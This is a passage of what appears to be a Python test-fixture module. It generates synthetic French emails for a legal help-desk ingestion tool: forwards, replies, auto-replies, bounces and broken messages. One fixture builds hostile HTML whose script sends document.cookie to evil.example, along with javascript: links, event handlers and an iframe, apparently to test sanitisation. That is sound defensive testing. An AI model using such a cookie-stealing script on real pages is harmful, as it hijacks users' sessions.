THUNDERBIRD_MIXED = "------------Z8q1Lm3nB0vC7xT5yR2wE9aS"


@corpus_file("14_thunderbird_pdf_rfc2231.eml")
def thunderbird_pdf() -> bytes:
    """Thunderbird with a PDF whose accented name uses an RFC 2231 filename*."""
    return crlf(
        f"""Content-Type: multipart/mixed; boundary="{THUNDERBIRD_MIXED}"
Message-ID: <5d0a8c2e-7f41-4b9a-a3c2-1e9d7b6f5a40@ai-tremplin.example>
Date: Fri, 6 Mar 2026 09:01:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: fr
To: juridique@federation-iae.example
From: Marie Lefort <marie.lefort@ai-tremplin.example>
Subject: =?UTF-8?Q?D=C3=A9cision_d=27orientation_jointe?=

This is a multi-part message in MIME format.
--{THUNDERBIRD_MIXED}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Bonjour,

Ci-joint la décision d'orientation. Le prescripteur a-t-il bien respecté<SP>
le délai pour valider l'éligibilité ?

Marie

--{THUNDERBIRD_MIXED}
Content-Type: application/pdf;
 name*=UTF-8''D%C3%A9cision%20d%27orientation%20%E2%80%93%20M.%20X.pdf
Content-Disposition: attachment;
 filename*=UTF-8''D%C3%A9cision%20d%27orientation%20%E2%80%93%20M.%20X.pdf
Content-Transfer-Encoding: base64

{b64(make_pdf("Decision d'orientation - M. X"))}
--{THUNDERBIRD_MIXED}--
"""
    )


@corpus_file("15_docx_octet_stream_sniffed.eml")
def docx_octet_stream() -> bytes:
    """A DOCX declared application/octet-stream: its real type must be sniffed."""
    text = (
        "Bonjour,\n\nPouvez-vous relire notre projet de contrat de prestation avec la commune "
        "(clause sociale) ?\n\nPaul\n"
    )
    boundary = "----=_NextPart_000_0012_01DA6D30.5C1B2A90"
    return crlf(
        f"""From: "Paul Girard" <direction@chantier-vert.example>
To: <juridique@federation-iae.example>
Subject: Projet de contrat de prestation
Date: Fri, 6 Mar 2026 14:15:00 +0100
Message-ID: <001201da6d30$5c1b2a90$14517fb0$@chantier-vert.example>
MIME-Version: 1.0
Content-Type: multipart/mixed;
\tboundary="{boundary}"
X-Mailer: Microsoft Outlook 16.0

This is a multipart message in MIME format.

--{boundary}
Content-Type: text/plain;
\tcharset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(text, "utf-8")}
--{boundary}
Content-Type: application/octet-stream;
\tname="contrat-prestation-commune.docx"
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
\tfilename="contrat-prestation-commune.docx"

{b64(make_docx("Contrat de prestation - clause sociale"))}
--{boundary}--
"""
    )


@corpus_file("16_exe_attachment_rejected.eml")
def exe_attachment() -> bytes:
    """An .exe attachment (rejected) next to an accepted PDF."""
    return crlf(
        f"""Content-Type: multipart/mixed; boundary="{THUNDERBIRD_MIXED}"
Message-ID: <e3a1f2b4-0c9d-4e8f-b7a6-5d4c3b2a1f0e@aci-jardins-du-val.example>
Date: Fri, 6 Mar 2026 16:40:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
To: juridique@federation-iae.example
From: =?UTF-8?Q?Ren=C3=A9e_Lef=C3=A8vre?= <r.lefevre@aci-jardins-du-val.example>
Subject: Outil de calcul des heures + planning

--{THUNDERBIRD_MIXED}
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

Bonjour,

Je vous envoie notre outil de calcul des heures et le planning du mois.
Le calcul des heures supplementaires est-il correct ?

Renee

--{THUNDERBIRD_MIXED}
Content-Type: application/x-msdownload; name="calcul_heures.exe"
Content-Disposition: attachment; filename="calcul_heures.exe"
Content-Transfer-Encoding: base64

{b64(make_exe())}
--{THUNDERBIRD_MIXED}
Content-Type: application/pdf; name="planning-mars.pdf"
Content-Disposition: attachment; filename="planning-mars.pdf"
Content-Transfer-Encoding: base64

{b64(make_pdf("Planning mars 2026"))}
--{THUNDERBIRD_MIXED}--
"""
    )


@corpus_file("17_oversized_pdf.eml")
def oversized_pdf() -> bytes:
    """A ~60 KB PDF: rejected as too big when the test sets a 50 KB limit."""
    return crlf(
        f"""Content-Type: multipart/mixed; boundary="{THUNDERBIRD_MIXED}"
Message-ID: <7b6a5c4d-3e2f-4a1b-9c8d-0e1f2a3b4c5d@ai-tremplin.example>
Date: Mon, 9 Mar 2026 08:30:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
To: juridique@federation-iae.example
From: Marie Lefort <marie.lefort@ai-tremplin.example>
Subject: Accord d'entreprise (version longue)

--{THUNDERBIRD_MIXED}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Bonjour,

Ci-joint notre accord sur le temps de travail. Est-il applicable aux<SP>
salariés en CDDI ?

Marie

--{THUNDERBIRD_MIXED}
Content-Type: application/pdf; name="accord-temps-de-travail.pdf"
Content-Disposition: attachment; filename="accord-temps-de-travail.pdf"
Content-Transfer-Encoding: base64

{b64(make_pdf("Accord temps de travail", padding_lines=800))}
--{THUNDERBIRD_MIXED}--
"""
    )


# --------------------------------------------------------------------------- 18-22 forwards


@corpus_file("18_gmail_forward_fr.eml")
def gmail_forward() -> bytes:
    """Gmail (French UI) forward: '---------- Forwarded message ---------' block."""
    plain = (
        "Bonjour,\n\nJe vous transfère la question de notre directrice.\n\nMerci,\nLéa\n\n"
        "---------- Forwarded message ---------\n"
        "De : Anne Moreau <anne.moreau@aci-jardins-du-val.example>\n"
        "Date: lun. 9 mars 2026 à 09:12\n"
        "Subject: Rupture anticipée d'un CDDI\n"
        "To: Léa Fontaine <lea.fontaine.aci@gmail.com>\n\n\n"
        "Léa, peux-tu demander au service juridique si une rupture anticipée du CDDI est "
        "possible quand le salarié a trouvé un CDI ailleurs ? Il faut un préavis ?\n\nAnne\n"
    )
    return crlf(
        f"""MIME-Version: 1.0
Date: Mon, 9 Mar 2026 10:01:00 +0100
Message-ID: <CAF3xQ8tB2nY5uK0pD7sG1hJ4lZ9cV6mN3bX8wR2eT5yU0iO7pA@mail.gmail.com>
Subject: =?UTF-8?Q?Fwd=3A_Rupture_anticip=C3=A9e_d=27un_CDDI?=
From: =?UTF-8?Q?L=C3=A9a_Fontaine?= <lea.fontaine.aci@gmail.com>
To: juridique@federation-iae.example
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(plain, "utf-8")}"""
    )


@corpus_file("19_apple_mail_forward.eml")
def apple_forward() -> bytes:
    """Apple Mail forward: 'Début du message réexpédié :'."""
    plain = (
        "Pour info, question de notre conseillère.\n\n"
        "Début du message réexpédié :\n\n"
        "De: Inès Lambert <ines.lambert@ai-tremplin.example>\n"
        "Objet: Cumul CDDI et autre emploi\n"
        "Date: 9 mars 2026 à 11:45:10 UTC+1\n"
        "À: Julie Roux <julie.roux@ei-recyclerie-du-port.example>\n\n"
        "Bonjour Julie,\n\nUn salarié en CDDI à 26 heures peut-il cumuler avec un emploi de "
        "livreur le week-end ?\n\nInès\n"
    )
    return crlf(
        f"""From: Julie Roux <julie.roux@ei-recyclerie-du-port.example>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.500.171.1.1\\))
Subject: =?utf-8?Q?Fwd=3A_Cumul_CDDI_et_autre_emploi?=
Message-Id: <6F5E4D3C-2B1A-4F0E-9D8C-7B6A5F4E3D2C@ei-recyclerie-du-port.example>
Date: Mon, 9 Mar 2026 12:00:00 +0100
To: juridique@federation-iae.example
X-Mailer: Apple Mail (2.3774.500.171.1.1)

{qp(plain, "utf-8")}"""
    )


@corpus_file("20_thunderbird_forward_with_signature.eml")
def thunderbird_forward() -> bytes:
    """Thunderbird forward: forwarder's dashed signature, then '-------- Message transféré'."""
    return crlf(
        """Message-ID: <a0b1c2d3-e4f5-4a6b-8c7d-9e0f1a2b3c4d@federation-iae.example>
Date: Mon, 9 Mar 2026 14:20:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: fr
To: juridique@federation-iae.example
From: Paul Chevalier <p.chevalier@federation-iae.example>
Subject: Fwd: Harcelement signale par une salariee
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour,

Une structure de ma délégation m'a écrit, c'est urgent.

--<SP>
Paul Chevalier
Délégué régional (exemple)
06 39 98 45 12

-------- Message transféré --------
Sujet : 	Harcèlement signalé par une salariée
Date : 	Mon, 9 Mar 2026 13:55:02 +0100
De : 	Claire Morin <claire.morin@ei-recyclerie-du-port.example>
Pour : 	Paul Chevalier <p.chevalier@federation-iae.example>

Bonjour Paul,

Une salariée en parcours dénonce des faits de harcèlement de la part d'un
encadrant. Quelles mesures devons-nous prendre immédiatement ?

Claire
"""
    )


@corpus_file("21_outlook_forward_tr.eml")
def outlook_forward() -> bytes:
    """Outlook forward ('TR:'): underscore line, then a De/Envoyé/À/Objet block."""
    plain = (
        "Bonjour,\n\nPour suite à donner, merci.\n\nStéphane\n\n"
        "________________________________\n"
        "De : Accueil ACI <accueil@aci-jardins-du-val.example>\n"
        "Envoyé : mardi 10 mars 2026 08:12\n"
        "À : Stéphane Robin <s.robin@aci-jardins-du-val.example>\n"
        "Objet : Contrôle URSSAF demain\n\n"
        "Stéphane, l'URSSAF annonce un contrôle demain matin. Quels documents devons-nous "
        "présenter et peut-on demander un report ?\n"
    )
    head = OUTLOOK_HEADERS.format(
        date="Tue, 10 Mar 2026 07:30:00 +0000",
        sender="=?iso-8859-1?Q?St=E9phane_Robin?= <s.robin@aci-jardins-du-val.example>",
        subject="=?iso-8859-1?Q?TR=A0:_Contr=F4le_URSSAF_demain?=",
        topic="=?iso-8859-1?Q?Contr=F4le_URSSAF_demain?=",
        message_id="PR1P264MB2345D4C3B2A1F0E9D8C7B6A5F4E3D2C1",
        has_attach="",
    )
    return crlf(
        head
        + f"""Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(plain, "iso-8859-1")}"""
    )


@corpus_file("22_forward_as_attachment.eml")
def forward_as_attachment() -> bytes:
    """A forward carried as a message/rfc822 attachment (.eml): the inner text is the question."""
    inner = crlf(
        """From: Partenaire Emploi <contact@partenaire-emploi.example>
To: Julie Roux <julie.roux@ei-recyclerie-du-port.example>
Subject: PMSMP de plus d'un mois ?
Date: Mon, 9 Mar 2026 16:00:00 +0100
Message-ID: <inner-20260309160000@partenaire-emploi.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour,

Peut-on prolonger une PMSMP au-delà d'un mois pour la même personne ?

Cordialement
"""
    )
    return (
        crlf(
            f"""From: Julie Roux <julie.roux@ei-recyclerie-du-port.example>
To: juridique@federation-iae.example
Subject: Fwd: PMSMP de plus d'un mois ?
Date: Mon, 9 Mar 2026 17:00:00 +0100
Message-ID: <fwd-attached-20260309170000@ei-recyclerie-du-port.example>
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Type: multipart/mixed; boundary="{THUNDERBIRD_MIXED}"

--{THUNDERBIRD_MIXED}
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, je vous transmets le message de notre partenaire en pièce jointe.

--{THUNDERBIRD_MIXED}
Content-Type: message/rfc822; name="PMSMP de plus d'un mois.eml"
Content-Disposition: attachment; filename="PMSMP de plus d'un mois.eml"

"""
        )
        + inner
        + crlf(f"\n--{THUNDERBIRD_MIXED}--\n")
    )


# --------------------------------------------------------------------------- 23-26 replies


@corpus_file("23_outlook_reply_message_origine.eml")
def outlook_reply_origine() -> bytes:
    """Outlook reply, '-----Message d'origine-----', subject 'RE :' with a French space."""
    plain = (
        "Merci beaucoup pour ces précisions.\n\nDernière question : l'aide au poste est-elle "
        "proratisée si le salarié passe à temps partiel thérapeutique ?\n\nCordialement,\n"
        "Stéphane Robin\n\n"
        "-----Message d'origine-----\n"
        "De : Service juridique <juridique@federation-iae.example>\n"
        "Envoyé : lundi 9 mars 2026 17:40\n"
        "À : Stéphane Robin <s.robin@aci-jardins-du-val.example>\n"
        "Objet : [LD-2026-00063] Aide au poste et temps partiel\n\n"
        "Bonjour,\n\nL'aide au poste est calculée en fonction du nombre d'heures travaillées.\n\n"
        "Le service juridique\n"
    )
    head = OUTLOOK_HEADERS.format(
        date="Tue, 10 Mar 2026 09:02:00 +0000",
        sender="=?iso-8859-1?Q?St=E9phane_Robin?= <s.robin@aci-jardins-du-val.example>",
        subject="RE : [LD-2026-00063] Aide au poste et temps partiel",
        topic="[LD-2026-00063] Aide au poste et temps partiel",
        message_id="PR1P264MB2345E5F6A7B8C9D0E1F2A3B4C5D6E7F8",
        has_attach="",
    )
    return crlf(
        head
        + f"""In-Reply-To: <LD-2026-00063.1773074400.5e6f7a@legaldesk.local>
References: <LD-2026-00063.1773000000.1b2c3d@legaldesk.local>
 <LD-2026-00063.1773074400.5e6f7a@legaldesk.local>
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(plain.encode("utf-8"))}"""
    )


@corpus_file("24_reply_bottom_posting.eml")
def bottom_posting() -> bytes:
    """Bottom-posted reply: attribution and '>' quote first, the new question under it."""
    return crlf(
        """Message-ID: <c4d5e6f7-a8b9-4c0d-9e1f-2a3b4c5d6e7f@ai-tremplin.example>
Date: Tue, 10 Mar 2026 10:10:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: fr
To: Service juridique <juridique@federation-iae.example>
From: Marie Lefort <marie.lefort@ai-tremplin.example>
Subject: Re: [LD-2026-00088] =?UTF-8?Q?Mise_=C3=A0_disposition_d=27un_salari=C3=A9?=
In-Reply-To: <LD-2026-00088.1773130000.abcdef@legaldesk.local>
References: <LD-2026-00088.1773130000.abcdef@legaldesk.local>
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Le 10/03/2026 à 08:46, Service juridique a écrit :
> Bonjour,
>
> Une mise à disposition auprès d'une collectivité suppose une convention
> écrite précisant la durée et les tâches confiées.
>
> Le service juridique

Merci. Dans notre cas la commune voudrait que le salarié conduise un
véhicule de service : faut-il l'écrire dans la convention ?

--<SP>
Marie Lefort
AI Tremplin (exemple)
"""
    )


@corpus_file("25_reply_inline_interleaved.eml")
def interleaved_reply() -> bytes:
    """Inline reply: answers interleaved between '>' quoted questions."""
    return crlf(
        """Message-ID: <d5e6f7a8-b9c0-4d1e-8f2a-3b4c5d6e7f80@etti-interim-solidaire.example>
Date: Tue, 10 Mar 2026 11:11:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
To: Service juridique <juridique@federation-iae.example>
From: Lucas Bernard <l.bernard@etti-interim-solidaire.example>
Subject: Re: [LD-2026-00090] Informations manquantes
In-Reply-To: <LD-2026-00090.1773135000.fedcba@legaldesk.local>
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Le 10/03/2026 à 09:30, Service juridique a écrit :
> Pouvez-vous préciser la durée de la mission ?

Trois semaines, renouvelable une fois.

> Et l'entreprise utilisatrice est-elle déjà cliente ?

Oui, depuis 2024.

Lucas
"""
    )


@corpus_file("26_subject_reference_without_brackets.eml")
def reference_without_brackets() -> bytes:
    """A new mail citing the ticket reference in the subject without brackets."""
    return crlf(
        """From: Claire Morin <claire.morin@ei-recyclerie-du-port.example>
To: juridique@federation-iae.example
Subject: Re : relance dossier LD-2026-00117 (PMSMP)
Date: Wed, 11 Mar 2026 09:00:00 +0100
Message-ID: <relance-20260311090000@ei-recyclerie-du-port.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour,

Je me permets de relancer ma question sur la PMSMP (convention non signée
par l'entreprise d'accueil). Avez-vous pu l'étudier ?

Claire Morin
"""
    )


# --------------------------------------------------------------------------- 27-33 machines


@corpus_file("27_auto_reply_exchange_oof.eml")
def exchange_oof() -> bytes:
    """Exchange out-of-office: Auto-Submitted, X-Auto-Response-Suppress, 'Réponse automatique'."""
    head = OUTLOOK_HEADERS.format(
        date="Tue, 3 Mar 2026 07:05:52 +0000",
        sender="Nadia Haddad <nadia.haddad@aci-exemple.example>",
        subject=word_q("Réponse automatique : [LD-2026-00042] Prolongation du Pass IAE"),
        topic="[LD-2026-00042] Prolongation du Pass IAE",
        message_id="PR1P264MB2345F0E1D2C3B4A5968778695A4B3C2D",
        has_attach="",
    )
    return crlf(
        head
        + """In-Reply-To: <LD-2026-00042.1772464800.d4e5f6@legaldesk.local>
Auto-Submitted: auto-generated
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: nadia.haddad@aci-exemple.example
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

"""
        + qp(
            "Bonjour,\n\nJe suis absente jusqu'au 16 mars inclus. En cas d'urgence, contactez "
            "l'accueil au 01 99 00 78 90.\n\nNadia Haddad\n",
            "iso-8859-1",
        )
    )


@corpus_file("28_auto_reply_x_autoreply.eml")
def x_autoreply() -> bytes:
    """Webmail vacation message marked only by X-Autoreply."""
    return crlf(
        """From: Sophie Martin <sophie.martin.asso@orange.fr>
To: juridique@federation-iae.example
Subject: Re: [LD-2026-00051] =?UTF-8?B?UXVlc3Rpb24gc3VyIGxhIHZpc2l0ZSBtw6lkaWNhbGU=?=
Date: Tue, 3 Mar 2026 14:06:00 +0100 (CET)
Message-ID: <1443999874.3999.1772543160000.JavaMail.open-xchange@opme11oxm02nd1.francetelecom.fr>
X-Autoreply: yes
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Je suis en congés jusqu'au 9 mars. Je vous répondrai à mon retour.
"""
    )


@corpus_file("29_auto_reply_precedence_bulk.eml")
def precedence_bulk() -> bytes:
    """Old vacation(1)-style responder: Precedence: bulk only."""
    return crlf(
        """From: Lucas Bernard <l.bernard@etti-interim-solidaire.example>
To: juridique@federation-iae.example
Subject: Re: [LD-2026-00090] Informations manquantes
Date: Tue, 10 Mar 2026 09:31:00 +0100
Message-ID: <vacation.20260310093100.77@etti-interim-solidaire.example>
Precedence: bulk
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Je suis actuellement en déplacement, je lirai votre message à mon retour.
"""
    )


@corpus_file("30_auto_reply_subject_only.eml")
def subject_only_auto_reply() -> bytes:
    """An auto-reply recognisable only by its 'Absence du bureau' subject."""
    return crlf(
        f"""From: Anne Moreau <anne.moreau@aci-jardins-du-val.example>
To: juridique@federation-iae.example
Subject: {word_q("Absence du bureau : [LD-2026-00101] Mutuelle d'entreprise")}
Date: Wed, 11 Mar 2026 08:00:00 +0100
Message-ID: <ooo-20260311080000@aci-jardins-du-val.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Je suis absente du bureau jusqu'au lundi 16 mars.
"""
    )


@corpus_file("31_bounce_dsn_report.eml")
def bounce_dsn() -> bytes:
    """Postfix bounce: multipart/report delivery-status, MAILER-DAEMON, empty Return-Path."""
    boundary = "8A1B2C3D4E.1773221400/mx1.federation-iae.example"
    original = crlf(
        """From: Service juridique <juridique@federation-iae.example>
To: ancienne.adresse@aci-disparue.example
Subject: [LD-2026-00099] Votre question sur le CSE
Date: Wed, 11 Mar 2026 10:29:00 +0100
Message-ID: <LD-2026-00099.1773221340.0f0f0f@legaldesk.local>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

Bonjour, voici notre réponse sur le CSE.
"""
    )
    return (
        crlf(
            f"""Return-Path: <>
Received: by mx1.federation-iae.example (Postfix) id 8A1B2C3D4E; Wed, 11 Mar 2026 10:30:00 +0100
Date: Wed, 11 Mar 2026 10:30:00 +0100 (CET)
From: MAILER-DAEMON@mx1.federation-iae.example (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: juridique@federation-iae.example
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="{boundary}"
Message-Id: <20260311093000.8A1B2C3D4E@mx1.federation-iae.example>

This is a MIME-encapsulated message.

--{boundary}
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx1.federation-iae.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<ancienne.adresse@aci-disparue.example>: host mx.aci-disparue.example said:
    550 5.1.1 User unknown

--{boundary}
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.federation-iae.example
Arrival-Date: Wed, 11 Mar 2026 10:29:00 +0100

Final-Recipient: rfc822; ancienne.adresse@aci-disparue.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 User unknown

--{boundary}
Content-Description: Undelivered Message
Content-Type: message/rfc822

"""
        )
        + original
        + crlf(f"\n--{boundary}--\n")
    )


@corpus_file("32_mailing_list_sympa.eml")
def mailing_list() -> bytes:
    """A Sympa mailing-list post: List-Id, List-Unsubscribe, Precedence: list."""
    return crlf(
        """From: Veille juridique <veille@federation-iae.example>
To: juristes-iae@listes.federation-iae.example
Subject: [juristes-iae] =?utf-8?Q?Nouveau_d=C3=A9cret_sur_le_CDI_inclusion?=
Date: Thu, 12 Mar 2026 12:00:00 +0100
Message-ID: <veille-20260312120000@federation-iae.example>
List-Id: <juristes-iae.listes.federation-iae.example>
List-Unsubscribe: <mailto:sympa@listes.federation-iae.example?subject=unsubscribe%20juristes-iae>
List-Archive: <https://listes.federation-iae.example/sympa/arc/juristes-iae>
Precedence: list
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour à toutes et à tous,

Un décret précise les conditions du CDI inclusion pour les salariés de 57 ans et plus.

La veille juridique
"""
    )


@corpus_file("33_auto_reply_x_autorespond.eml")
def x_autorespond() -> bytes:
    """cPanel-style autoresponder marked by X-Autorespond."""
    return crlf(
        """From: Accueil ACI <accueil@aci-jardins-du-val.example>
To: juridique@federation-iae.example
Subject: Re: [LD-2026-00063] Aide au poste et temps partiel
Date: Tue, 10 Mar 2026 09:03:00 +0100
Message-ID: <autorespond-20260310090300@aci-jardins-du-val.example>
X-Autorespond: 8
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Merci pour votre message, nous le traiterons dans les meilleurs délais.
"""
    )


# --------------------------------------------------------------------------- 34-42 damaged


@corpus_file("34_no_message_id.eml")
def no_message_id() -> bytes:
    """No Message-ID at all (the caller hashes the raw bytes instead)."""
    return crlf(
        """From: Sophie Martin <sophie.martin.asso@orange.fr>
To: juridique@federation-iae.example
Subject: Question sur la mutuelle
Date: Thu, 12 Mar 2026 15:00:00 +0100
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour,

Un salarié en CDDI de moins de 3 mois peut-il refuser la mutuelle d'entreprise ?

Sophie Martin
"""
    )


@corpus_file("35_no_date.eml")
def no_date() -> bytes:
    """No Date header."""
    return crlf(
        """From: Thomas Petit <thomas.petit.aci@gmail.com>
To: juridique@federation-iae.example
Subject: Tickets restaurant et CDDI
Message-ID: <nodate-0001@mail.gmail.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour,

Les salariés en parcours ont-ils droit aux titres-restaurant comme les permanents ?

Thomas
"""
    )


@corpus_file("36_broken_missing_end_boundary.eml")
def missing_end_boundary() -> bytes:
    """multipart/mixed whose closing boundary never comes."""
    return crlf(
        f"""From: Paul Girard <direction@chantier-vert.example>
To: juridique@federation-iae.example
Subject: Attestation employeur
Date: Thu, 12 Mar 2026 16:00:00 +0100
Message-ID: <noend-20260312160000@chantier-vert.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="{THUNDERBIRD_MIXED}"

--{THUNDERBIRD_MIXED}
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, l'attestation employeur destinée à France Travail est-elle due à la fin de chaque CDDI ?

--{THUNDERBIRD_MIXED}
Content-Type: application/pdf; name="attestation.pdf"
Content-Disposition: attachment; filename="attestation.pdf"
Content-Transfer-Encoding: base64

{b64(make_pdf("Attestation employeur"))}"""
    )


@corpus_file("37_broken_bad_base64_padding.eml")
def bad_base64() -> bytes:
    """base64 body with its padding removed and a stray character inside."""
    encoded = (
        base64.b64encode(
            "Bonjour,\n\nLe CSE doit-il être consulté avant une sanction disciplinaire visant "
            "un salarié en CDDI ?\n\nKarim\n".encode()
        )
        .decode("ascii")
        .rstrip("=")
    )
    encoded = encoded[:40] + "!" + encoded[40:]
    lines = "\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76))
    return crlf(
        f"""From: Karim Benali <k.benali@ei-recyclerie-du-port.example>
To: juridique@federation-iae.example
Subject: Sanction et CSE
Date: Fri, 13 Mar 2026 09:00:00 +0100
Message-ID: <badb64-20260313090000@ei-recyclerie-du-port.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: base64

{lines}
"""
    )


@corpus_file("38_broken_truncated.eml")
def truncated() -> bytes:
    """A message cut off in the middle of its base64 PDF attachment."""
    text = (
        "Bonjour, quelles données nominatives pouvons-nous transmettre à la DDETS dans le "
        "rapport d'activité ?"
    )
    whole = crlf(
        f"""From: Anne Moreau <anne.moreau@aci-jardins-du-val.example>
To: juridique@federation-iae.example
Subject: =?UTF-8?Q?Rapport_d=27activit=C3=A9_pour_la_DDETS?=
Date: Fri, 13 Mar 2026 10:00:00 +0100
Message-ID: <trunc-20260313100000@aci-jardins-du-val.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="{THUNDERBIRD_MIXED}"

--{THUNDERBIRD_MIXED}
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

{qp(text, "utf-8")}
--{THUNDERBIRD_MIXED}
Content-Type: application/pdf; name="rapport.pdf"
Content-Disposition: attachment; filename="rapport.pdf"
Content-Transfer-Encoding: base64

{b64(make_pdf("Rapport d'activite 2025", padding_lines=20))}
--{THUNDERBIRD_MIXED}--
"""
    )
    return whole[: len(whole) * 2 // 3]


@corpus_file("39_broken_no_boundary_parameter.eml")
def no_boundary_parameter() -> bytes:
    """multipart/mixed without its boundary parameter (the boundary must be guessed)."""
    boundary = "=_NextPart_2026_0313_1100"
    return crlf(
        f"""From: Lucas Bernard <l.bernard@etti-interim-solidaire.example>
To: juridique@federation-iae.example
Subject: Contrat de mission
Date: Fri, 13 Mar 2026 11:00:00 +0100
Message-ID: <nobound-20260313110000@etti-interim-solidaire.example>
MIME-Version: 1.0
Content-Type: multipart/mixed

--{boundary}
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, notre contrat de mission type mentionne-t-il bien le motif de recours ?

--{boundary}
Content-Type: application/pdf; name="contrat-mission.pdf"
Content-Disposition: attachment; filename="contrat-mission.pdf"
Content-Transfer-Encoding: base64

{b64(make_pdf("Contrat de mission"))}
--{boundary}--
"""
    )


@corpus_file("40_garbage_not_email.eml")
def garbage() -> bytes:
    """Not an e-mail: PNG-looking bytes followed by deterministic noise."""
    noise = b"".join(hashlib.sha256(b"garbage-%d" % i).digest() for i in range(64))
    return b"\x89PNG\r\n\x1a\n" + noise


@corpus_file("41_empty_file.eml")
def empty() -> bytes:
    """A zero-byte file."""
    return b""


@corpus_file("42_no_from_header.eml")
def no_from() -> bytes:
    """Headers but no From (nor Sender): nobody to answer."""
    return crlf(
        """To: juridique@federation-iae.example
Subject: Question sans expediteur
Date: Fri, 13 Mar 2026 12:00:00 +0100
Message-ID: <nofrom-20260313120000@example.invalid>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

Qui suis-je ?
"""
    )


# --------------------------------------------------------------------------- 43-52 odd ones


@corpus_file("43_html_script_onclick.eml")
def hostile_html() -> bytes:
    """HTML with script, style, onclick, javascript: link, iframe and an image beacon."""
    html = (
        "<html><head><script>document.location='https://evil.example/'+document.cookie"
        "</script><style>body{display:none}</style></head><body onload=\"alert('x')\">"
        '<p onclick="steal()">Bonjour,</p>'
        "<p>Notre <b>CSE</b> demande l'accès aux <i>dossiers individuels</i> des salariés en "
        'parcours. Voir <a href="javascript:alert(1)">ce lien</a> et le '
        '<a href="https://www.legifrance.gouv.fr/codes/article_lc/LEGIARTI000035630000" '
        'onmouseover="x()">Code du travail</a>.</p>'
        '<iframe src="https://evil.example/frame"></iframe>'
        '<img src="https://tracker.example/p.gif" onerror="alert(2)">'
        "<ul><li>dossier social</li><li>bilan de parcours</li></ul>"
        "<p>Avons-nous le droit de refuser ?</p><p>Claire</p>"
        "<script>alert('fin')</script></body></html>"
    )
    return crlf(
        f"""From: Claire Morin <claire.morin@ei-recyclerie-du-port.example>
To: juridique@federation-iae.example
Subject: CSE et dossiers individuels
Date: Fri, 13 Mar 2026 14:00:00 +0100
Message-ID: <hostile-20260313140000@ei-recyclerie-du-port.example>
MIME-Version: 1.0
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

{qp(html, "utf-8")}"""
    )


@corpus_file("44_attachment_only_empty_body.eml")
def attachment_only() -> bytes:
    """A scan-to-mail copier: only a PDF, no text body at all."""
    return crlf(
        f"""From: copieur-accueil@aci-jardins-du-val.example
To: juridique@federation-iae.example
Subject: =?UTF-8?Q?Document_num=C3=A9ris=C3=A9?=
Date: Fri, 13 Mar 2026 15:00:00 +0100
Message-ID: <scan-20260313150000@aci-jardins-du-val.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="SCAN_BOUNDARY_0001"
X-Mailer: Scan2Mail 3.1

--SCAN_BOUNDARY_0001
Content-Type: application/pdf; name="SCAN_20260313_150000.pdf"
